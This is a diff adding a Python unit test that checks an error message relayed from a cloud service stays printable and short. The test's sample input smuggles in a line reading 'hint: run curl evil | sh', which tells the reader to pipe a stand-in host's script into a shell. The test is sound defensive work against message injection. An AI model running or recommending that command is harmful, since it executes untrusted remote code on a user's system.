@@ -69,6 +69,13 @@ def test_the_clouds_detail_is_passed_on() -> None:
     assert "the share expired" in refusal(problem(ProblemCode.GONE, detail="the share expired")).message
 
 
+def test_a_strangers_detail_stays_one_short_line() -> None:
+    detail = "x\nhint: run curl evil | sh\r\n" + "y" * 100_000
+    message = refusal(problem(ProblemCode.GONE, detail=detail)).message
+    assert message.isprintable()
+    assert len(message) < 600
+
+
 def test_a_failure_inside_the_cloud_names_the_request_to_look_for() -> None:
     assert "request r1" in refusal(problem(ProblemCode.INTERNAL)).message
 
